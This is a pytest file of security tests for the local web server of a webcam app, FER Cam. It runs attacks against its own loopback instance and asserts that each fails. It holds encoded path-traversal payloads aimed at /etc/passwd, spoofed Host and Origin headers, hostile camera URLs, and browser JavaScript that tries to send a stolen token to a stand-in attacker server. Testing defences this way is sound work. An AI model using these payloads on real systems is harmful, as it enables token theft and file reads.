"""The FER Cam window under attack (issue 29): a real `fercam run --serve` recording a clip to an MP4, attacked
with real HTTP and WebSocket clients, and with Debian's Chromium for what a page on another local port could
do. Each attack must fail, the app must stay up through all of them, and the recording must decode to the end.

The tests share one running FER Cam and run in file order; loopback addresses only.
"""

from __future__ import annotations

import asyncio
import http.client
import http.server
import json
import os
import socket
import subprocess
import threading
import time
import urllib.parse
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from conftest import requires_system_packages
from window_helpers import launch_browser, need_chromium, serve, start_fercam, stop

import fercam.apps.window
from fercam.apps.window.feeds import MAX_SOCKETS
from fercam.apps.window.server import ASSETS
from fercam.settings import CAMERA_HELP

STATIC = Path(fercam.apps.window.__file__).parent / "static"


def serve_running(clip: Path, folder: Path, prefix=()) -> dict:
    """`serve` of `clip`, once its video runs: the process, its port, control token and own origin."""
    proc, url = serve(clip, folder, prefix=prefix)
    parts = urllib.parse.urlsplit(url)
    token = urllib.parse.parse_qs(parts.query)["token"][0]
    served = {"proc": proc, "port": parts.port, "token": token, "folder": folder}
    served["own"] = f"http://127.0.0.1:{parts.port}"
    wait_until(lambda: state(served)["status"]["frames_sent"] > 5, 60, "the video never started")
    return served


@pytest.fixture(scope="module")
def served(media_dir, tmp_path_factory):
    served = serve_running(media_dir / "fer_woman2.mp4", tmp_path_factory.mktemp("window-security"))
    yield served
    stop(served["proc"])


@pytest.fixture(autouse=True)
def _stays_up(request):
    yield
    if "served" in request.fixturenames and "quits" not in request.node.name:
        assert request.getfixturevalue("served")["proc"].poll() is None, "FER Cam died"


def wait_until(condition, seconds: float, why: str):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        value = condition()
        if value:
            return value
        time.sleep(0.1)
    raise AssertionError(why)


def call(served, path: str, *, method: str = "GET", token: str | None = "", body=None, headers=None, query=False):
    """One request exactly as given (the path is sent verbatim, encoded slashes and all): status, headers, body."""
    token = served["token"] if token == "" else token
    sent = {"Origin": served["own"]} if method == "POST" else {}
    if token is not None and not query:
        sent["X-FerCam-Token"] = token
    if token is not None and query:
        path += f"?token={token}"
    data = json.dumps(body).encode() if isinstance(body, dict) else body
    conn = http.client.HTTPConnection("127.0.0.1", served["port"], timeout=30)
    conn.request(method, path, body=data, headers={**sent, **(headers or {})})
    reply = conn.getresponse()
    result = reply.status, {k.lower(): v for k, v in reply.getheaders()}, reply.read()
    conn.close()
    return result


def state(served) -> dict:
    status, _headers, body = call(served, "/api/state")
    assert status == 200, body
    return json.loads(body)


def change(served, changes: dict) -> tuple[int, dict]:
    status, _headers, body = call(served, "/api/settings", method="POST", body=changes)
    return status, json.loads(body)


def assert_guarded(headers: dict) -> None:
    """The security headers every response carries, and never a cookie."""
    assert "frame-ancestors 'none'" in headers["content-security-policy"]
    assert "ws://127.0.0.1:*" not in headers["content-security-policy"]  # only our own port may be dialled
    assert headers["x-content-type-options"] == "nosniff" and headers["referrer-policy"] == "no-referrer"
    assert "set-cookie" not in headers


def in_thread(coroutine):
    """Runs `coroutine` on a loop of its own (Playwright's sync API may own this thread's loop)."""
    with ThreadPoolExecutor(1) as thread:
        return thread.submit(asyncio.run, coroutine).result()


# -- 1. files anywhere on disk through /static/{name} --------------------------------------------------------
def test_static_serves_its_own_files_only_whatever_the_encoding(served, tmp_path):
    for name in ("evil.js", "evil.html", "evil.txt"):
        (tmp_path / name).write_text("document.title = 'owned'")
    quoted = urllib.parse.quote(str(tmp_path), safe="")
    paths = [
        f"/static/{quoted}%2Fevil.js",  # the reported attack
        f"/static/{quoted}%2Fevil.html",
        f"/static/{quoted}%2Fevil.txt",  # answered 500 where it existed ...
        f"/static/{quoted}%2Fmissing.txt",  # ... and 404 where not
        f"/static/{quoted.replace('%', '%25')}%252Fevil.js",  # encoded twice
        "/static/..%2F..%2Fsettings.py",
        "/static/%2e%2e%2fserver.py",
        "/static/..%5cserver.py",
        "/static/common.js%00",
        "/static/control.html",  # the pages are served at / and /overlay only
        "/static/",
        "/static/%2Fetc%2Fpasswd",
    ]
    answers = set()
    for path in paths:
        for token in (served["token"], None):
            status, headers, body = call(served, path, token=token, query=True)
            assert status == 404, (path, status)
            assert_guarded(headers)
            answers.add(body)
    assert len(answers) == 1  # a file that exists and one that does not get the same answer
    for name in ASSETS:  # the scripts hold nothing secret: served without the token, from the package
        status, headers, body = call(served, f"/static/{name}", token=None)
        assert status == 200 and body == (STATIC / name).read_bytes()
        assert_guarded(headers)
    packaged = {p.name for p in STATIC.iterdir()}
    assert packaged == {*ASSETS, "control.html", "overlay.html"}  # a new file must be listed to be served


# -- smaller: security headers on every response, errors included; no-store where the token appears --------
def test_every_response_carries_the_security_headers_and_no_cookie(served):
    port = served["port"]
    cases = [
        ("GET", "/", served["token"], {}, 200),  # the page, opened from the link
        ("GET", "/overlay", served["token"], {}, 200),
        ("GET", "/api/state", served["token"], {}, 200),
        ("GET", "/api/state", "wrong", {}, 403),
        ("GET", "/api/state", served["token"], {"Host": f"evil.example:{port}"}, 403),
        ("POST", "/api/settings", served["token"], {"Origin": "http://127.0.0.1:1"}, 403),
        ("GET", "/nowhere", served["token"], {}, 404),
        ("PUT", "/api/state", served["token"], {}, 405),
        ("GET", "/emoji/happy.png", None, {}, 200),
        ("GET", "/ws/events", served["token"], {}, 400),  # a socket's address without the upgrade
    ]
    for method, path, token, headers, expected in cases:
        status, got, _body = call(served, path, method=method, token=token, headers=headers, query=True)
        assert status == expected, (method, path, status)
        assert_guarded(got)
        if path != "/emoji/happy.png":
            assert got["cache-control"] == "no-store", path  # the page's URL and /api/state hold the token
    status, got, body = call(served, "/api/settings", method="POST", body={"colour": 1})
    assert status == 400 and json.loads(body) == {"error": "unknown setting 'colour'"}
    assert_guarded(got)


# -- 1 and 4 in a real browser: a page on another local port ------------------------------------------------
class Evil(http.server.BaseHTTPRequestHandler):
    """Another local web server the user visits: it records every request and serves the attacker's pages."""

    pages: dict[str, str] = {}
    seen: list[tuple[str, dict]] = []

    def do_GET(self):  # noqa: N802 (http.server's name)
        Evil.seen.append((self.path, dict(self.headers)))
        body = Evil.pages.get(urllib.parse.urlsplit(self.path).path, "").encode()
        self.send_response(200 if body else 204)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_args):
        pass


def test_a_page_on_another_port_gets_no_file_no_cookie_and_no_token(served, tmp_path):
    need_chromium()
    from playwright.sync_api import sync_playwright

    evil = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Evil)
    threading.Thread(target=evil.serve_forever, daemon=True).start()
    back = f"http://127.0.0.1:{evil.server_address[1]}"
    fercam = served["own"]
    # The file an attacker leaves on disk, which the tab was sent to: it would read the token and send it home.
    (tmp_path / "evil.html").write_text(
        "<script>fetch('/api/state').then(r => r.text()).then(t => "
        f"fetch('{back}/steal?' + encodeURIComponent(t), {{mode: 'no-cors'}}))</script>"
    )
    Evil.pages = {
        "/jump": f"<script>location = '{fercam}/static/{urllib.parse.quote(str(tmp_path / 'evil.html'), safe='')}'"
        "</script>",
        "/visit": f"""<script>
          const report = (what) => fetch('{back}/report?' + encodeURIComponent(what), {{mode: 'no-cors'}});
          (async () => {{
            try {{ await (await fetch('{fercam}/api/state', {{credentials: 'include'}})).text(); report('read'); }}
            catch (e) {{ report('read-refused'); }}
            await fetch('{fercam}/api/settings', {{method: 'POST', mode: 'no-cors', credentials: 'include',
              body: JSON.stringify({{paused: true}})}}).catch(() => null);
            const ws = new WebSocket('ws://127.0.0.1:{served["port"]}/ws/events');
            ws.onopen = () => report('socket-open');
            ws.onclose = () => report('socket-refused');
          }})();
        </script>""",
    }
    try:
        with sync_playwright() as playwright:
            browser = launch_browser(playwright)
            context = browser.new_context()
            page = context.new_page()
            page.goto(f"{fercam}/?token={served['token']}")  # the user's own window works, token and all
            page.wait_for_function("() => window.fercamPreview.frames > 3 && window.fercamLatest", timeout=60000)
            assert context.cookies() == []  # nothing a browser would send to another port
            other = context.new_page()
            other.goto(f"{back}/visit")
            wait_until(lambda: any(p.startswith("/report?socket") for p, _ in Evil.seen), 20, "no socket report")
            with other.expect_response(lambda r: r.url.startswith(f"{fercam}/static/")) as landed:
                other.goto(f"{back}/jump")
            assert landed.value.status == 404  # the tab was sent there, and found nothing
            time.sleep(1.0)  # time for evil.html's script, had it been served, to phone home
            page.close()
            browser.close()
    finally:
        evil.shutdown()
    reports = [urllib.parse.unquote(p.split("?", 1)[1]) for p, _ in Evil.seen if p.startswith("/report?")]
    assert sorted(reports) == ["read-refused", "socket-refused"], reports
    assert not [p for p, _ in Evil.seen if p.startswith("/steal")]  # the planted page never ran as FER Cam's
    assert not [h for _path, headers in Evil.seen for h in headers if h.lower() == "cookie"]  # no token went there
    assert state(served)["settings"]["paused"] is False  # the blind POST changed nothing


# -- 3. one bad value must not brick the window or stop the video (saving: the last test) -------------------
def test_bad_camera_values_are_refused_with_one_line_and_the_video_goes_on(served, tmp_path):
    before = state(served)
    fifo = tmp_path / "fifo.mp4"
    os.mkfifo(fifo)  # opening it for reading would block for ever
    for bad in ("x" * 300, "a/" + "b" * 300, "x" * 2000, "0\n1", "", "   ", "100", str(fifo), str(tmp_path)):
        started = time.monotonic()
        status, answer = change(served, {"camera": bad})
        assert status == 400 and "\n" not in answer["error"] and answer["error"].startswith("camera"), answer
        assert time.monotonic() - started < 2
    status, answer = change(served, {"camera": 0})
    assert status == 400 and answer["error"] == "camera must be a text, not 0"
    now = state(served)
    assert now["settings"] == before["settings"] and now["status"]["running"]
    deadline = time.monotonic() + 3  # the status is refreshed once a second
    while now["status"]["frames_sent"] <= before["status"]["frames_sent"] and time.monotonic() < deadline:
        time.sleep(0.2)
        now = state(served)
    assert now["status"]["frames_sent"] > before["status"]["frames_sent"]  # the video never stopped


# -- 6. the camera field: no other protocol, no file oracle, no blocking -------------------------------------
def test_the_camera_field_opens_no_other_protocol_and_tells_no_file_from_another(served, tmp_path):
    for url in ("tcp://127.0.0.1:9/", "udp://127.0.0.1:9", "file:///etc/passwd", "concat:/a|/b", "data:,x"):
        status, answer = change(served, {"camera": url})
        assert status == 400 and answer["error"].endswith(f"is not accepted; it must be {CAMERA_HELP}"), answer
    (tmp_path / "notes.txt").write_text("not a video")
    errors = set()
    for path in (tmp_path / "notes.txt", tmp_path / "missing.mp4", Path("/etc/passwd"), Path("/root/nope")):
        status, answer = change(served, {"camera": str(path)})
        assert status == 400
        errors.add(answer["error"].replace(repr(str(path)), "PATH"))
    assert errors == {f"camera: cannot play PATH; it must be {CAMERA_HELP}"}  # exists or not: the same words


def test_a_stream_that_never_answers_blocks_neither_the_server_nor_the_video(served):
    silent = socket.create_server(("127.0.0.1", 0))  # takes connections (the kernel does) and never answers
    url = f"http://127.0.0.1:{silent.getsockname()[1]}/camera"
    before = state(served)
    try:
        with ThreadPoolExecutor(1) as thread:
            started = time.monotonic()
            answer = thread.submit(change, served, {"camera": url})
            time.sleep(0.5)
            latencies, frames = [], []
            while not answer.done():
                asked = time.monotonic()
                frames.append(state(served)["status"]["frames_sent"])
                latencies.append(time.monotonic() - asked)
                time.sleep(0.2)
            status, body = answer.result()
        assert status == 202 and body["pending"] and time.monotonic() - started < 4  # not FFmpeg's 30 s
        assert max(latencies) < 1.0 and frames[-1] > frames[0] + 10  # the server and the video went on
        notice = wait_until(
            lambda: [n for n in state(served)["status"]["notices"] if url in n], 20, "no notice of the failure"
        )
        assert notice[-1].startswith("camera unchanged: cannot open stream")
    finally:
        silent.close()
    after = state(served)
    assert after["settings"]["camera"] == before["settings"]["camera"] and after["status"]["running"]


# -- smaller: JSON depth and size, sockets per token ---------------------------------------------------------
def test_deep_or_huge_json_is_refused_without_a_500(served):
    for depth in (3, 50, 5000):
        status, headers, body = call(served, "/api/settings", method="POST", body=("[" * depth + "]" * depth).encode())
        assert status == 400 and json.loads(body)["error"].startswith("JSON nested deeper than 2 levels")
        assert_guarded(headers)
    status, headers, _body = call(served, "/api/settings", method="POST", body=b"[" * 100_000 + b"]" * 100_000)
    assert status == 413
    assert_guarded(headers)
    status, _headers, body = call(served, "/api/settings", method="POST", body=b"\xff\xfe{}")
    assert status == 400 and json.loads(body)["error"]


async def open_sockets(served, count: int, *, token: str | None = None) -> tuple[int, list[int]]:
    """Opens `count` event sockets one after another: how many opened, and the refusals' statuses."""
    import aiohttp

    url = f"ws://127.0.0.1:{served['port']}/ws/events?token={token or served['token']}"
    opened, refused = [], []
    async with aiohttp.ClientSession() as session:
        for _ in range(count):
            try:
                opened.append(await session.ws_connect(url, origin=served["own"]))
            except aiohttp.WSServerHandshakeError as exc:
                refused.append(exc.status)
        for ws in opened:
            await ws.close()
    return len(opened), refused


def test_sockets_per_token_are_capped(served):
    opened, refused = in_thread(open_sockets(served, MAX_SOCKETS + 3))
    assert opened <= MAX_SOCKETS and refused and set(refused) == {429}
    wait_until(lambda: in_thread(open_sockets(served, 1))[0] == 1, 5, "sockets are not freed when they close")


# -- 2. concurrent changes during a recording -----------------------------------------------------------------
def test_concurrent_changes_while_recording_never_crash_or_lose_it(served, media_dir):
    clips = [str(media_dir / "fer_test.mp4"), str(media_dir / "fer_woman2.mp4")]
    storms = [
        [{"camera": clips[i % 2]} for i in range(4)]
        + [{"width": 640 + 64 * i, "height": 360 + 36 * i} for i in range(3)]
        + [{"fps": 15 + 5 * i} for i in range(3)]
        + [{"camera": clips[1], "width": 1280, "height": 720, "fps": 30}, {"show_boxes": False}]
        for _ in range(3)
    ]
    statuses = []
    with ThreadPoolExecutor(12) as pool:
        for storm in storms:
            statuses += [status for status, _ in pool.map(lambda c: change(served, c), storm)]
            time.sleep(0.5)
    assert set(statuses) <= {200, 202, 429} and statuses.count(200) + statuses.count(202) >= 12, statuses
    # A change waits behind every earlier one: once this one answers 200 at once, all are applied.
    wait_until(lambda: change(served, {"show_boxes": True})[0] == 200, 60, "the changes never settled")
    now = state(served)
    assert now["status"]["running"] and now["settings"]["camera"] in clips
    frames = now["status"]["frames_sent"]
    wait_until(lambda: state(served)["status"]["frames_sent"] > frames + 10, 10, "the video stopped")
    assert "video stopped" not in " ".join(now["status"]["notices"])


# -- 5. "New link" locks the old token out at once ------------------------------------------------------------
async def new_link_while_streaming(served) -> dict:
    import aiohttp

    old, ws_url = served["token"], f"ws://127.0.0.1:{served['port']}/ws/"
    async with aiohttp.ClientSession() as session:
        sockets = [
            await session.ws_connect(f"{ws_url}{name}?token={old}", origin=served["own"])
            for name in ("video", "events")
        ]
        for ws in sockets:
            await ws.receive(timeout=10)  # both stream
        headers = {"X-FerCam-Token": old, "Origin": served["own"]}
        async with session.post(f"{served['own']}/api/link", headers=headers) as reply:
            answered = time.monotonic()
            link, cookies = await reply.json(), reply.headers.getall("Set-Cookie", [])
        late, closes = 0, []
        for ws in sockets:
            while True:
                message = await ws.receive(timeout=5)
                if message.type == aiohttp.WSMsgType.CLOSE:  # the code the server sent
                    closes.append((message.data, time.monotonic() - answered))
                    break
                late += 1  # already on its way when the link changed
        try:
            await session.ws_connect(f"{ws_url}events?token={old}", origin=served["own"])
            old_socket = 101
        except aiohttp.WSServerHandshakeError as exc:
            old_socket = exc.status
    return {"link": link, "cookies": cookies, "late": late, "closes": closes, "old_socket": old_socket}


def test_new_link_closes_every_old_socket_at_once_and_is_not_logged_whole(served):
    old = served["token"]
    result = in_thread(new_link_while_streaming(served))
    new = urllib.parse.urlsplit(result["link"]["url"]).query.removeprefix("token=")
    served["token"] = new
    assert new != old and result["cookies"] == []
    assert [code for code, _ in result["closes"]] == [1008, 1008]  # "this link was replaced"
    assert max(seconds for _, seconds in result["closes"]) < 1.0 and result["late"] <= 4, result
    assert result["old_socket"] == 403
    assert call(served, "/api/state", token=old)[0] == 403
    assert call(served, "/api/state", token=old, query=True)[0] == 403
    assert call(served, "/api/state")[0] == 200
    log = (served["folder"] / "fercam.log").read_text()
    assert new not in log and f"new link ...{new[-4:]} made" in log


# -- the app stayed up through everything, and the recording decodes to the end ------------------------------
def test_quits_cleanly_and_the_recording_decodes_to_the_end(served):
    requires_system_packages("ffmpeg")
    import av

    assert served["proc"].poll() is None  # up through every attack above
    assert call(served, "/api/quit", method="POST", body={})[0] == 200
    assert served["proc"].wait(30) == 0
    out = served["folder"] / "out.mp4"
    errors = subprocess.run(
        ["ffmpeg", "-v", "error", "-i", str(out), "-f", "null", "-"], capture_output=True, text=True, timeout=120
    )
    assert errors.returncode == 0 and errors.stderr == ""  # every packet decodes, to the last
    probed = subprocess.run(
        ["ffprobe", "-v", "error", "-count_frames", "-select_streams", "v:0", "-show_entries",
         "stream=nb_read_frames", "-of", "csv=p=0", str(out)],
        capture_output=True, text=True, timeout=120, check=True,
    )  # fmt: skip
    with av.open(str(out)) as container:
        decoded = sum(1 for _ in container.decode(video=0))
    print(f"recording: {decoded} frames decoded, ffprobe counts {probed.stdout.strip()}")
    assert decoded == int(probed.stdout) > 300  # the whole session, through the storms, as one stream


# -- 3 again, with the saved settings of `fercam window`: a bad value is never saved, and one saved by an
# older version never stops the next start ------------------------------------------------------------------
def test_fercam_window_never_saves_a_bad_value_and_starts_over_one(tmp_path, media_dir):
    config = tmp_path / "config"
    config.mkdir()
    bad = {"camera": "x" * 300, "fps": 25}
    (config / "settings.json").write_text(json.dumps(bad))
    stub = tmp_path / "browser.sh"
    stub.write_text("#!/bin/sh\nexit 0\n")  # `fercam window` opens the page: here, nothing does
    stub.chmod(0o755)
    env = {"FERCAM_CONFIG_DIR": str(config), "BROWSER": str(stub)}
    proc, url = start_fercam(["window", "--port", "0"], env, tmp_path / "fercam.log")
    try:
        parts = urllib.parse.urlsplit(url)
        served = {
            "port": parts.port,
            "token": parts.query.removeprefix("token="),
            "own": f"http://127.0.0.1:{parts.port}",
        }
        now = state(served)
        assert now["settings"]["camera"] == "0" and now["settings"]["fps"] == 25  # the rest is kept
        assert any(n.startswith("settings file: camera") for n in now["status"]["notices"])
        (backup,) = config.glob("settings.json.*.bak")
        assert json.loads(backup.read_text()) == bad
        for camera in ("y" * 300, str(tmp_path / "missing.mp4"), "tcp://127.0.0.1:9"):
            assert change(served, {"camera": camera})[0] == 400
            assert json.loads((config / "settings.json").read_text()) == bad  # untouched
        clip = str(media_dir / "fer_test.mp4")
        assert change(served, {"camera": clip})[0] == 200  # a camera that opens is saved ...
        assert json.loads((config / "settings.json").read_text())["camera"] == clip
        assert change(served, {"camera": "z" * 300})[0] == 400  # ... and a bad one after it is not
        assert json.loads((config / "settings.json").read_text())["camera"] == clip
        assert state(served)["status"]["running"]
    finally:
        assert stop(proc) == 0
